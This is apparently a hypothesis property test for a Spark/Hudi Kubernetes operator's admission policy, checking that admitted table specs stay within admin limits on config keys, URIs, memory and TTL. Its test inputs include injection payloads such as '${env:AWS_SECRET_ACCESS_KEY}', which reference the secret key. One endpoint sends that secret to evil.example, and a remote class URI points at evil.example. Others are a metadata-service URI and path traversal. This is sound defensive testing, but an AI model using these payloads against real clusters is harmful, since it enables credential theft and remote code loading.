"""Whatever a table's author writes, what the policy admits is within the admins' bounds: a property of
generated specs (hypothesis), each admitted one rendered into the SparkApplication the operator would
create and read back as the Spark Operator and the job would read it.

The specs mix what authors write (the tuning keys with their examples, the table's own prefix) with what
attacks tried (keys that load code or choose credentials under the admins' prefixes, ``${...}``, control
and look-alike characters, sizes in a KELVIN SIGN, '..' segments, a '://' further in, memory settings that
add up past the limit). The checks below restate the rules independently of the policy's code, so that
a bug in ``admit`` cannot also hide itself here.
"""

from __future__ import annotations

import re
from typing import Any

from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st

from hudi_bucket.contract.requests import JobKind
from hudi_bucket_operator.decide.decisions import SubmitJob
from hudi_bucket_operator.decide.render import DEFAULT_SPARK_CONF, render_spark_application
from hudi_bucket_operator.errors import InvalidSpecError
from hudi_bucket_operator.policy.job_defaults import JobDefaults
from hudi_bucket_operator.policy.job_policy import Policy, admit
from hudi_bucket_operator.resource import naming
from hudi_bucket_operator.resource.spark_conf import (
    HADOOP_CONF_ALLOWED,
    OWNED_SPARK_CONF,
    PREFIX_ADMITS,
    REFUSED_BECAUSE,
    SPARK_CONF_ALLOWED,
)
from hudi_bucket_operator.resource.spec import parse_spec

NAMESPACE = "team-a"
# The admins: team-a's tables under its own prefixes; the README's wide prefixes on the settings; one
# exact key each; 16g and 32g pods.
DEFAULTS = JobDefaults(
    allowed_table_uris={NAMESPACE: ("s3a://lake/team-a/", "/data/a"), "team-b": ("s3a://lake/team-b/",)},
    allowed_spark_conf=("spark.", "spark.sql.cbo.enabled"),
    allowed_hadoop_conf=("fs.s3a.", "fs.s3a.endpoint"),
    allowed_secrets={NAMESPACE: ("lake-s3",)},
)
POLICY = Policy(DEFAULTS)
LIMITS = {"driver": 16 << 30, "executor": 32 << 30}
EXAMPLES = 800  # the property's generated specs per run (about 5 s; a fifth of them admitted)

# --- what an author writes -------------------------------------------------------------------------------

_TRICKS = ["${env:AWS_SECRET_ACCESS_KEY}", "${sparkconf:spark.hadoop.fs.s3a.secret.key}", "\x1b[2J", "\n",
           "\u009b", "..", ".", "//", "://", "@", "\u212a", "\u200b", "%2e%2e", " "]  # fmt: skip
_NAME = st.from_regex(r"[a-z0-9_=-]{1,12}", fullmatch=True)
_URI = st.one_of(
    # Most as authors write them, under the team's own prefixes; the rest as attacks tried.
    st.builds(lambda start, parts: start + "/".join(parts), st.sampled_from(["s3a://lake/team-a/", "/data/a/"]),
              st.lists(_NAME, min_size=1, max_size=3)),
    st.builds(
        lambda start, parts: start + "/".join(parts),
        st.sampled_from(["s3a://lake/team-a/", "/data/a/", "s3a://lake/team-b/", "s3a://lake/", "/data/",
                         "file:/data/a/", "http://169.254.169.254/", "s3a://key:s@lake/team-a/", "S3A://lake/team-a/"]),
        st.lists(st.one_of(_NAME, st.sampled_from(_TRICKS)), min_size=1, max_size=4),
    ),
)  # fmt: skip

_SIZES = st.one_of(
    st.sampled_from(["512m", "2g", "8g", "16g", "22g", "32g", "1t", "99999999g", "1025", "40000000\u212a",
                     "4\u212ab", "1\uff47", "\u0661g", "2g\u200b", "${env:X}", "-1"]),
    st.builds(lambda n, u: f"{n}{u}", st.integers(0, 70_000), st.sampled_from(["", "k", "m", "g", "mb", "G"])),
)  # fmt: skip
_FITS = st.sampled_from(["1g", "2g", "4g", "512m"])
_TUNING = [*SPARK_CONF_ALLOWED, *PREFIX_ADMITS]
_SPARK_KEYS = st.one_of(
    st.sampled_from([s.key for s in _TUNING if s.key.startswith("spark.")]),
    st.sampled_from([s.key for s in _TUNING if s.key.startswith("spark.")]),
    st.sampled_from([s.key + ("x" if s.key.endswith(".") else "") for s in (*REFUSED_BECAUSE, *OWNED_SPARK_CONF)
                     if s.key.startswith("spark.")]),
    st.sampled_from(["spark.repl.class.uri", "spark.executor.userClassPathFirst", "spark.plugins.defaultList",
                     "spark.sql.cache.serializer", "spark.python.daemon.module", "spark.redaction.regex",
                     "spark.eventLog.dir", "spark.metrics.conf", "spark.executor.memory", "spark.sql.cbo.enabled",
                     "spark.hadoop.fs.s3a.endpoint", "spark.hadoop.fs.s3a.audit.service.classname",
                     "spark.sql.files.ignoreCorruptFiles", "spark.dynamicAllocation.maxExecutors"]),
    st.from_regex(r"spark\.[a-zA-Z.]{1,20}", fullmatch=True),
)  # fmt: skip
_HADOOP_KEYS = st.one_of(
    st.sampled_from([s.key for s in (*HADOOP_CONF_ALLOWED, *PREFIX_ADMITS) if not s.key.startswith("spark.")]),
    st.sampled_from([s.key for s in (*HADOOP_CONF_ALLOWED, *PREFIX_ADMITS) if not s.key.startswith("spark.")]),
    st.sampled_from(["fs.s3a.audit.service.classname", "fs.s3a.audit.request.handlers", "fs.s3a.endpoint",
                     "fs.s3a.delegation.token.binding", "fs.s3a.security.credential.provider.path",
                     "fs.s3a.encryption.key", "fs.s3a.impl", "fs.s3a.secret.key", "fs.defaultFS",
                     "fs.s3a.acl.default", "fs.s3a.signing-algorithm", "fs.s3a.bucket.lake.endpoint"]),
    st.from_regex(r"fs\.s3a\.[a-z.-]{1,20}", fullmatch=True),
)  # fmt: skip


def _example_of(key: str) -> str:
    rule = next((s for s in (*_TUNING, *HADOOP_CONF_ALLOWED) if s.covers(key) and s.value), None)
    return rule.value.example if rule and rule.value else "x"


_MEMORY_KEYS = ["spark.driver.memoryOverhead", "spark.executor.memoryOverhead", "spark.memory.offHeap.size",
                "spark.executor.pyspark.memory", "spark.executor.memoryOverheadFactor",
                "spark.kubernetes.memoryOverheadFactor", "spark.memory.offHeap.enabled"]  # fmt: skip


def _conf(keys: st.SearchStrategy[str]) -> st.SearchStrategy[dict[str, str]]:
    value = st.one_of(_SIZES, st.sampled_from(["true", "0.4", "1", "8", *_TRICKS]), st.text(max_size=8))
    # None: the key's own example, as authors write them (as likely as a generated value); then the
    # memory settings, sizes and tricks, as attacks tried.
    entry = st.one_of(
        st.tuples(keys, st.one_of(st.none(), value)),
        st.tuples(st.sampled_from(_MEMORY_KEYS), st.one_of(_SIZES, st.sampled_from(["true", "0.4", "1"]))),
        st.tuples(keys, st.sampled_from(_TRICKS).map(lambda trick: f"1{trick}")),
    )
    return st.lists(entry, max_size=4).map(lambda kv: {k: _example_of(k) if v is None else v for k, v in kv})


_SPEC = st.fixed_dictionaries(
    {
        "table": st.fixed_dictionaries({"uri": _URI}),
        "buckets": st.just({"default": 4, "rules": [{"pattern": "11-11", "buckets": 8}]}),
        "spark": st.fixed_dictionaries(
            {},
            optional={
                "driver": st.fixed_dictionaries({}, optional={"memory": st.one_of(_SIZES, _FITS)}),
                "executor": st.fixed_dictionaries({}, optional={"memory": st.one_of(_SIZES, _FITS)}),
                "sparkConf": _conf(_SPARK_KEYS),
                "hadoopConf": _conf(_HADOOP_KEYS),
                "ttlSeconds": st.sampled_from([0, 600, 604800, 604801, 31536000]),
                "envFromSecrets": st.sampled_from([[{"name": "lake-s3"}], [{"name": "db-admin"}]]),
            },
        ),
    },
    optional={"verify": st.fixed_dictionaries({"schedule": st.sampled_from(["1m", "59m", "1h", "6h", "7d",
                                                "* * * * *", "*/30 * * * *", "0 * * * *", "@daily", "0 3 * * *"])})},
)  # fmt: skip

# --- the bounds, restated -------------------------------------------------------------------------------

_UNSAFE = re.compile(r"\$\{|[\x00-\x1f\x7f-\x9f]")
_SIZE = re.compile(r"([0-9]+)([kmgtp]?)b?", re.ASCII)


def _bytes(text: str, unit: str = "m") -> int:
    """A size as Spark reads it (ASCII only); the test fails on one it cannot read."""
    found = _SIZE.fullmatch(text.strip().lower())
    assert text.isascii(), text
    assert found is not None, text
    return int(found[1]) << (10 * " kmgtp".index(found[2] or unit))


def _pod(role: str, heap: str, conf: dict[str, str]) -> int:
    """The pod Spark 3.5 asks for a PySpark job's driver or executor: heap, overhead (0.4 of the heap
    and at least 384 MiB unless set), and an executor's off-heap (when on) and Python memory."""
    mib = _bytes(heap) >> 20
    if f"spark.{role}.memoryOverhead" in conf:
        overhead = _bytes(conf[f"spark.{role}.memoryOverhead"]) >> 20
    else:
        factor = conf.get(
            f"spark.{role}.memoryOverheadFactor", conf.get("spark.kubernetes.memoryOverheadFactor", "0.4")
        )
        overhead = max(int(float(factor) * mib), 384)
    total = (mib + overhead) << 20
    if role == "executor":
        if conf.get("spark.memory.offHeap.enabled", "").lower() == "true":
            total += _bytes(conf.get("spark.memory.offHeap.size", "0"), unit=" ")
        total += _bytes(conf.get("spark.executor.pyspark.memory", "0"))
    return total


def _admitted_key(key: str, allowed: tuple[str, ...], builtin: tuple[Any, ...]) -> bool:
    """Admitted as the README says: the built-in list, the admins' exact key, or a vetted key under
    one of their prefixes."""
    by_prefix = any(key.startswith(p) for p in allowed if p.endswith(".")) and any(
        s.key == key for s in PREFIX_ADMITS
    )
    return any(s.key == key for s in builtin) or key in allowed or by_prefix


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in (*_strings(k), *_strings(v))]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def _rendered(spec: dict[str, Any]) -> dict[str, Any] | None:
    """The SparkApplication of the spec's plan job, or None when the spec or the policy refuses it."""
    try:
        table_spec = parse_spec(spec)
        admit(table_spec, NAMESPACE, POLICY)
    except InvalidSpecError as refused:
        event(f"refused: {type(refused).__name__}")
        return None
    event("admitted")
    table = {
        "metadata": {"name": "orders", "namespace": NAMESPACE, "uid": "u-1", "generation": 1},
        "spec": spec,
    }
    job = SubmitJob(table_spec.job_request(JobKind.PLAN, ""), 1, "", 0)
    name = naming.job_name("orders", "u-1", "plan", 1, "", "")
    return render_spark_application(
        table=table, job=job, spark=table_spec.spark, job_name=name, defaults=DEFAULTS
    )


def _attack(uri: str = "s3a://lake/team-a/orders", **spark: Any) -> dict[str, Any]:
    return {"table": {"uri": uri}, "buckets": {"default": 4, "rules": [{"pattern": "11-11", "buckets": 8}]},
            "spark": spark}  # fmt: skip


# The attacks of the issue that opened this round, always tried beside the generated specs.
_ATTACKS = [
    _attack(sparkConf={"spark.executor.memoryOverhead": "40000000\u212a"}),
    _attack(sparkConf={"spark.memory.offHeap.size": "4\u212ab", "spark.memory.offHeap.enabled": "true"}),
    _attack(executor={"memory": "32g"}, sparkConf={"spark.executor.memoryOverhead": "32g",
            "spark.memory.offHeap.enabled": "true", "spark.memory.offHeap.size": "32g",
            "spark.executor.pyspark.memory": "32g"}),
    _attack(sparkConf={"spark.sql.shuffle.partitions": "${env:AWS_SECRET_ACCESS_KEY}"}),
    _attack(hadoopConf={"fs.s3a.multiobjectdelete.enable": "${env.AWS_SECRET_ACCESS_KEY}"}),
    # The admins' exact keys take any value but these.
    _attack(sparkConf={"spark.sql.cbo.enabled": "${env:AWS_SECRET_ACCESS_KEY}"}),
    _attack(hadoopConf={"fs.s3a.endpoint": "https://${env.AWS_SECRET_ACCESS_KEY}.evil.example"}),
    _attack(hadoopConf={"fs.s3a.endpoint": "https://s3.example\x1b[2J"}),
    _attack("s3a://lake/team-a/${env:AWS_SECRET_ACCESS_KEY}"),
    _attack("/data/a/../b/x://y"),
    _attack("s3a://lake/team-a/../team-b/t"),
    _attack(sparkConf={"spark.repl.class.uri": "http://evil.example", "spark.executor.userClassPathFirst": "true"}),
    _attack(hadoopConf={"fs.s3a.audit.service.classname": "com.evil.Audit"}),
    _attack(ttlSeconds=31536000),
]  # fmt: skip


def _with_attacks(test: Any) -> Any:
    for spec in _ATTACKS:
        test = example(spec)(test)
    return test


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@_with_attacks
@given(_SPEC)
def test_whatever_the_policy_admits_stays_within_the_admins_bounds(spec: dict[str, Any]) -> None:
    app = _rendered(spec)
    if app is None:
        return
    body = app["spec"]
    own = {**DEFAULT_SPARK_CONF, **DEFAULTS.spark_conf}
    for key in body["sparkConf"].keys() - own.keys():
        assert not any(s.covers(key) for s in OWNED_SPARK_CONF), key
        if key.startswith("spark.hadoop.") and key not in DEFAULTS.allowed_spark_conf:
            hadoop = key.removeprefix("spark.hadoop.")
            assert _admitted_key(hadoop, DEFAULTS.allowed_hadoop_conf, HADOOP_CONF_ALLOWED), key
        else:
            assert _admitted_key(key, DEFAULTS.allowed_spark_conf, SPARK_CONF_ALLOWED), key
    for key in body["hadoopConf"]:
        assert _admitted_key(key, DEFAULTS.allowed_hadoop_conf, HADOOP_CONF_ALLOWED), key
    # No value, argument or name the job or Spark reads holds '${' or a control character.
    for text in _strings(body):
        assert not _UNSAFE.search(text), text
    conf = {**own, **body["sparkConf"]}
    for role in ("driver", "executor"):
        assert _pod(role, body[role]["memory"], conf) <= LIMITS[role], (role, body[role]["memory"], conf)
    assert body["timeToLiveSeconds"] <= DEFAULTS.max_ttl_seconds
    uri = spec["table"]["uri"].strip()
    assert uri.startswith("s3a://lake/team-a/") or uri == "/data/a" or uri.startswith("/data/a/"), uri
    assert not {".", ".."} & set(uri.split("/")), uri
    assert "@" not in uri.partition("://")[2].partition("/")[0], uri
